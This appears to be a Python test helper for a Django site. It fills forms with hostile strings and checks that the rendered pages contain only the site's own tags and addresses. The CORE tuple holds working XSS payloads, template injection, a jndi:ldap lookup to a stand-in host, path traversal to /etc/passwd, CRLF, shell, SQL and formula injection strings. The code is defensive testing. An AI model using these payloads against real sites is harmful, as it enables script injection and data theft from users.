"""Strings that were written to break pages, and a page read as a browser reads it: what in it is not ours."""

from __future__ import annotations

import datetime as dt
import json
import os
import random
import re
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit
from xml.etree import ElementTree

import pytest
from bleach._vendor import html5lib
from django.http import HttpRequest, HttpResponse
from django.urls import Resolver404, resolve

from tests.peer.test_sanitise import COLLECTIONS, DATA, strings_in

SEED = os.environ.get("HOSTILE_SEED") or str(
    dt.datetime.now(dt.UTC).date()
)  # another share each day, told where it fails
MARK = "i-was-here"
CORE = (  # each leaves another kind of place: text, both quotes, a tag, a comment, a box, a script, an address, a template
    f"<{MARK}>",
    f'"><{MARK} onerror=alert(1)>',
    f"' {MARK}=1 onfocus=alert(1) autofocus x='",
    f'" {MARK}=1 onfocus=alert(1) autofocus x="',
    f"</textarea><{MARK}>",
    f"</title></style></noscript><{MARK}>",
    f"--><{MARK}><!--",
    "</script><script>window.ran=1</script>",
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    '<a href="javascript:window.ran=1">press</a>',
    "[press](javascript:window.ran=1)",
    "[press](&#106;avascript:window.ran=1)",
    "javascript:window.ran=1",
    "<base href=//hostile.example/><meta http-equiv=refresh content='0;url=//hostile.example/'>",
    "<style>@import'//hostile.example/a.css';</style><link rel=stylesheet href=//hostile.example/>",
    "<form action=//hostile.example/><button formaction=javascript:window.ran=1>",
    "{{ 7|add:7 }}{% debug %}{{constructor.constructor('window.ran=1')()}}${7*7}",
    "&lt;img src=x onerror=window.ran=1&gt; &amp;lt;b&amp;gt; %3Cscript%3E",
    "\u202etxet\u202c \ufeff\u200b Z\u0351\u036b\u0343 \U0001f469\u200d\U0001f680 \u2028\u2029 =1+1 @SUM(A1) ' OR 1=1;--",
    "../../etc/passwd\t%0d%0aSet-Cookie: a=1 ${jndi:ldap://hostile.example/a} $(id) `id`",
)

# ── What our own pages are made of ──────────────────────────────────────────────────────────────────────────────────
TAGS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "a",
        "div",
        "section",
        "details",
        "summary",
        "p",
        "ul",
        "li",
        "ol",
        "strong",
        "span",
        "header",
        "nav",
        "main",
        "h1",
        "h2",
        "h3",
        "h4",
        "form",
        "input",
        "button",
        "label",
        "fieldset",
        "legend",
        "textarea",
        "select",
        "option",
        "optgroup",
        "footer",
        "article",
        "em",
        "ins",
        "del",
        "blockquote",
        "br",
        "img",
        "svg",
        "path",
        "circle",
        "rect",
        "g",
        "line",
        "text",
        "defs",
        "use",
        "symbol",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "caption",
        "time",
        "dl",
        "dt",
        "dd",
        "hr",
        "small",
        "code",
        "pre",
        "audio",
        "source",
        "script",
        "noscript",
        "figure",
        "figcaption",
        "polyline",
        "polygon",
        "ellipse",
        "aside",
        "b",
        "i",
        "abbr",
        "output",
        "progress",
        "mark",
        "sub",
        "sup",
    ]
)
ADDRESSES = ("href", "src", "action", "formaction", "poster", "srcset", "data", "xlink:href", "ping", "cite")
SCHEMES = frozenset({"", "https", "http", "tel", "sms", "mailto"})
NEVER = frozenset({"style", "srcdoc", "ping", "background", MARK})
FELT = re.compile(r"/talk/posts/[\w-]+/felt-too/[?=\w]*")  # the one form whose buttons say where they lead
HOSTS = frozenset({"", "testserver", "localhost", "127.0.0.1", "www.bbc.co.uk", "www.bbc.com"})
OF_SERVICES = ".example.org"  # where the services of the directory have their own pages


def read(page: str) -> Any:
    """Read a page as the standard says that browsers do."""
    return html5lib.parse(page, treebuilder="etree", namespaceHTMLElements=False)


def faults(page: str) -> list[str]:
    """Name what `faults_in` finds in a page."""
    return faults_in(read(page))


def faults_in(tree: Any) -> list[str]:
    """Name every element, attribute and address of a page that no template of ours has."""
    wrong: list[str] = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            if MARK in (element.text or "") or "hostile.example" in (element.text or ""):
                wrong.append(f"comment {element.text!r}")
            continue
        tag = element.tag.rpartition("}")[2].lower()
        if tag not in TAGS:
            wrong.append(f"<{tag}>")
        is_data = tag == "script" and element.get("type") == "application/json" and "<" not in (element.text or "")
        if (
            tag == "script"
            and not is_data
            and (not (element.get("src") or "").startswith("/static/") or (element.text or "").strip())
        ):
            wrong.append(f"<script> {dict(element.attrib)} {element.text}")
        if tag == "meta" and "http-equiv" in element.attrib:
            wrong.append("meta http-equiv")
        for name, value in element.attrib.items():
            plain = name.rpartition("}")[2].lower()
            if plain.startswith("on") or plain in NEVER:
                wrong.append(f"<{tag} {plain}={value!r}>")
            if (plain in ADDRESSES and not _is_ours(value)) or (plain == "formaction" and not FELT.fullmatch(value)):
                wrong.append(f"<{tag} {plain}={value!r}>")
    return wrong


def _is_ours(address: str) -> bool:
    plain = re.sub(r"[\x00-\x20]", "", address)
    if plain.startswith("data:image/"):
        return True
    try:
        parts = urlsplit(plain)
    except ValueError:
        return False
    host = parts.hostname or ""
    return parts.scheme.lower() in SCHEMES and (host in HOSTS or host.endswith(OF_SERVICES))


def xml_faults(answer: str) -> list[str]:
    """Name every element of an answer to the telephone network that is none of ours."""
    return [one.tag for one in ElementTree.fromstring(answer).iter() if one.tag not in {"Response", "Message"}]


def text_of(page: str) -> str:
    """Give the words of a page as a person reads them, boxes too, spaces drawn together."""
    tree = read(page)
    boxes = " ".join(str(box.get("value", "")) for box in tree.iter("input"))
    return flat("".join(tree.itertext()) + " " + boxes)


def flat(text: str) -> str:
    """Draw spaces together, as a page does."""
    return " ".join(text.split())


# ── The strings ─────────────────────────────────────────────────────────────────────────────────────────────────────
def every_string() -> list[str]:
    """Give every string of the collections once; the test is left out where they are not on this machine."""
    found: list[str] = []
    for name in COLLECTIONS:
        file = DATA / name
        if not file.exists():
            pytest.skip(f"{file} is not here: set SHARED_DATA to the folder of the collections")
        is_json = file.suffix == ".json"
        found += strings_in(json.loads(file.read_text())) if is_json else file.read_text().splitlines()
    return list(dict.fromkeys(found))


def share(number: int) -> list[str]:
    """Give the share of the day; nothing where the collections are not here."""
    if not all((DATA / name).exists() for name in COLLECTIONS):
        return []
    return random.Random(SEED).sample(every_string(), number)


def pack(strings: Any, limit: int) -> list[str]:
    """Put strings one under the other into as few texts as go into a box of `limit` letters; a longer one is cut."""
    packed: list[str] = []
    for string in strings:
        one = string[:limit]
        if packed and len(packed[-1]) + len(one) + 2 <= limit:
            packed[-1] += f"\n{one}"
        else:
            packed.append(one)
    return [text for text in packed if text.strip()]


# ── Forms ───────────────────────────────────────────────────────────────────────────────────────────────────────────
def filled(form: Any, words: Callable[[int], str]) -> tuple[dict[str, Any], set[str]]:
    """Fill a form as somebody hostile does: words into every box, the first of each choice; give the boxes too."""
    sent: dict[str, Any] = {}
    boxes: set[str] = set()
    for field in form.iter():
        name, kind = field.get("name"), (field.get("type") or "text").lower()
        if not isinstance(field.tag, str) or not name or name == "csrfmiddlewaretoken":
            continue
        if field.tag == "textarea" or (
            field.tag == "input" and kind in {"text", "search", "email", "tel", "url", "password"}
        ):
            sent[name] = words(int(field.get("maxlength") or (1_000 if field.tag == "textarea" else 80)))
            boxes.add(name)
        elif field.tag == "select":
            options = [option.get("value", "") for option in field.iter("option")]
            sent[name] = next((option for option in options if option), "")
        elif field.tag == "input" and kind in {"radio", "checkbox"}:
            sent.setdefault(name, field.get("value", "on"))
        elif field.tag == "input" and kind not in {"file", "submit", "button", "image"}:
            sent[name] = field.get("value") or {"date": "2026-12-01", "time": "18:00", "number": "1"}.get(kind, "")
    return sent, boxes


# ── What was tried ──────────────────────────────────────────────────────────────────────────────────────────────────
TRIED: set[tuple[str, str]] = set()


class Noting:
    """Notes into which boxes of which address hostile words came, whoever sent them."""

    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        """Answer, and note."""
        if request.method == "POST":
            try:
                route = resolve(request.path_info).url_name or ""
            except Resolver404:
                route = ""
            hot = {
                name for name, values in request.POST.lists() if any(c in value for value in values for c in "<{[\"'")
            }
            TRIED.update((route, name) for name in hot)
        return self.get_response(request)
